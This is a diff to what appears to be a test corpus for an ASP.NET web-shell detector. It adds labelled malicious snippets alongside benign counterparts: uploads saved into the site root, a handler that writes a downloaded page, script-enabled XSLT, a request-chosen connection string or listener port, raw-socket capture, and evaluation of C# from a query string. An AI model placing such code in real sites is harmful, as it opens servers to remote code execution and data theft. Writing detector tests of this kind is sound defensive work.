@@ -546,6 +546,126 @@ SHELLS: list[tuple[str, str, str, set[str], str]] = [
         {"upload-beside-page"},
         "C#",
     ),
+    # --- batch raw9 (helper X3) and X4's raw10: behaviours missed on first sight
+    (
+        "cs-upload-into-application-root",  # the posted file kept under its own name in the site root
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<script runat="server">\nvoid Save(object s, EventArgs e) {\n'
+        "  if (FileUpload1.HasFile)\n"
+        "    FileUpload1.SaveAs(AppDomain.CurrentDomain.BaseDirectory + FileUpload1.FileName);\n}\n</script>",
+        {"upload-to-app-root"},
+        "C#",
+    ),
+    (
+        "cs-upload-into-root-folder-held-in-a-variable",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<script runat="server">\nvoid Page_Load(object s, EventArgs e) {\n'
+        "  HttpPostedFile f = Request.Files[0];\n  byte[] data = new byte[f.ContentLength];\n"
+        "  f.InputStream.Read(data, 0, data.Length);\n"
+        '  string folder = Server.MapPath("~/");\n'
+        "  using (var fs = new System.IO.FileStream(System.IO.Path.Combine(folder, "
+        "System.IO.Path.GetFileName(f.FileName)), System.IO.FileMode.Create))\n"
+        "    fs.Write(data, 0, data.Length);\n}\n</script>",
+        {"upload-to-app-root"},
+        "C#",
+    ),
+    (
+        "cs-handler-writes-downloaded-page",  # a fixed URL's content written as a page beside it
+        ".ashx",
+        '<%@ WebHandler Language="C#" Class="H" %>\nusing System.Web;\n'
+        "public class H : IHttpHandler {\n  public void ProcessRequest(HttpContext c) {\n"
+        '    string body = new System.Net.WebClient().DownloadString("https://example.com/page.txt");\n'
+        '    System.IO.File.WriteAllText(c.Server.MapPath("example.aspx"), body);\n  }\n'
+        "  public bool IsReusable { get { return false; } }\n}",
+        {"remote-dropper"},
+        "C#",
+    ),
+    (
+        "cs-xslt-with-script-enabled",  # a stylesheet typed into the page, compiled with script on
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<script runat="server">\nvoid Run(object s, EventArgs e) {\n'
+        "  var sheet = new System.Xml.XmlDocument();\n  sheet.LoadXml(Input.Text);\n"
+        "  var settings = new System.Xml.Xsl.XsltSettings(false, true);\n"
+        "  var t = new System.Xml.Xsl.XslCompiledTransform();\n"
+        "  t.Load(sheet, settings, null);\n}\n</script>",
+        {"xslt-script"},
+        "C#",
+    ),
+    (
+        "vb-xslt-enable-script-property",
+        ".aspx",
+        '<%@ Page Language="VB" %>\n<script runat="server">\nSub Run(s As Object, e As EventArgs)\n'
+        "  Dim settings As New System.Xml.Xsl.XsltSettings()\n  settings.EnableScript = True\nEnd Sub\n</script>",
+        {"xslt-script"},
+        "VB",
+    ),
+    (
+        "cs-virtual-path-provider-from-a-page",  # an in-memory page served by a provider it registers
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<script runat="server">\nvoid Page_Load(object s, EventArgs e) {\n'
+        '  string text = System.Text.Encoding.UTF8.GetString(Convert.FromBase64String("ZXhhbXBsZQ=="));\n'
+        "  System.Web.Hosting.HostingEnvironment.RegisterVirtualPathProvider(new ExampleProvider(text));\n"
+        '  Server.Execute("/example/page.aspx");\n}\n</script>',
+        {"virtual-path-provider"},
+        "C#",
+    ),
+    (
+        "cs-connection-string-named-by-the-request",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<script runat="server">\nvoid Show(object s, EventArgs e) {\n'
+        "  string name = NameBox.Text.Trim();\n"
+        "  Output.Text = System.Configuration.ConfigurationManager.ConnectionStrings[name].ConnectionString;\n"
+        "}\n</script>",
+        {"config-secret"},
+        "C#",
+    ),
+    (
+        "cs-listener-on-a-request-port",  # a bind tunnel: the request chooses the local port
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<%\n  int port = int.Parse(Request.QueryString["p"]);\n'
+        "  var l = new System.Net.Sockets.TcpListener(System.Net.IPAddress.Loopback, port);\n"
+        "  l.Start();\n%>",
+        {"socket"},
+        "C#",
+    ),
+    (
+        "cs-raw-socket-capture",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<%\n'
+        "  var s = new System.Net.Sockets.Socket(System.Net.Sockets.AddressFamily.InterNetwork, "
+        "System.Net.Sockets.SocketType.Raw, System.Net.Sockets.ProtocolType.IP);\n"
+        "  s.IOControl(System.Net.Sockets.IOControlCode.ReceiveAll, new byte[] { 1, 0, 0, 0 }, null);\n%>",
+        {"raw-socket"},
+        "C#",
+    ),
+    (
+        "cs-starts-a-program-beside-the-page",  # a tool dropped next to the page, output shown
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<%\n  var p = new System.Diagnostics.Process();\n'
+        '  p.StartInfo.FileName = Server.MapPath("example.exe");\n  p.StartInfo.UseShellExecute = false;\n'
+        "  p.StartInfo.RedirectStandardOutput = true;\n  p.Start();\n"
+        "  Response.Write(p.StandardOutput.ReadToEnd());\n%>",
+        {"process-beside-page"},
+        "C#",
+    ),
+    (
+        "cs-roslyn-script-from-request",
+        ".aspx",
+        '<%@ Page Language="C#" Async="true" %>\n<script runat="server">\n'
+        "async void Page_Load(object s, EventArgs e) {\n"
+        '  var r = await CSharpScript.EvaluateAsync(Request.QueryString["c"]);\n}\n</script>',
+        {"compile"},
+        "C#",
+    ),
+    (
+        "cs-pinvoke-dll-name-capitalised",
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<script runat="server">\n'
+        '[System.Runtime.InteropServices.DllImport("Kernel32.dll")]\n'
+        "static extern bool Beep(uint f, uint d);\n</script>",
+        {"pinvoke"},
+        "C#",
+    ),
 ]
 
 
@@ -766,6 +886,56 @@ BENIGN: list[tuple[str, str, str]] = [
         "own-path-for-a-date",  # the page's own file read for its date, no upload
         ".aspx",
         '<%@ Page Language="C#" %>\n<%= System.IO.File.GetLastWriteTime(Request.PhysicalPath).ToString("d") %>',
+    ),
+    (
+        "upload-under-the-application-root-in-a-folder",  # the root named, the upload kept in a folder
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<script runat="server">\nvoid Save(object s, EventArgs e) {\n'
+        "  string appPath = Request.PhysicalApplicationPath;\n  if (FileUpload1.HasFile) {\n"
+        '    string savePath = appPath + "uploads\\\\" + Server.HtmlEncode(FileUpload1.FileName);\n'
+        "    FileUpload1.SaveAs(savePath);\n  }\n}\n</script>",
+    ),
+    (
+        "download-into-a-data-file",  # a fixed feed cached as data, not as a page
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<%\n'
+        '  string xml = new System.Net.WebClient().DownloadString("https://example.com/feed.xml");\n'
+        '  System.IO.File.WriteAllText(Server.MapPath("~/App_Data/feed.xml"), xml);\n%>',
+    ),
+    (
+        "xslt-without-script",  # a fixed stylesheet, default settings: no embedded code runs
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<%\n  var t = new System.Xml.Xsl.XslCompiledTransform();\n'
+        '  t.Load(Server.MapPath("~/App_Data/list.xslt"));\n'
+        '  t.Transform(Server.MapPath("~/App_Data/list.xml"), null, Response.Output);\n%>',
+    ),
+    (
+        "fixed-connection-string",  # the application's own connection string, named in the code
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<%\n'
+        '  var cs = System.Configuration.ConfigurationManager.ConnectionStrings["Main"].ConnectionString;\n'
+        "  var conn = new System.Data.SqlClient.SqlConnection(cs);\n%>",
+    ),
+    (
+        "tool-under-bin",  # an installed tool under the application's bin folder
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<%\n  var p = new System.Diagnostics.Process();\n'
+        '  p.StartInfo.FileName = Server.MapPath("~/bin/example.exe");\n  p.StartInfo.UseShellExecute = false;\n'
+        "  p.Start();\n%>",
+    ),
+    (
+        "provider-registered-at-start-up",  # Global.asax: the application's own provider, at start
+        ".asax",
+        '<%@ Application Language="C#" %>\n<script runat="server">\n'
+        "void Application_Start(object s, EventArgs e) {\n"
+        "  System.Web.Hosting.HostingEnvironment.RegisterVirtualPathProvider(new Example.ResourceProvider());\n"
+        "}\n</script>",
+    ),
+    (
+        "listener-on-a-fixed-port",  # a fixed local listener, no request input
+        ".aspx",
+        '<%@ Page Language="C#" %>\n<%\n'
+        "  var l = new System.Net.Sockets.TcpListener(System.Net.IPAddress.Loopback, 8081);\n%>",
     ),
 ]
 
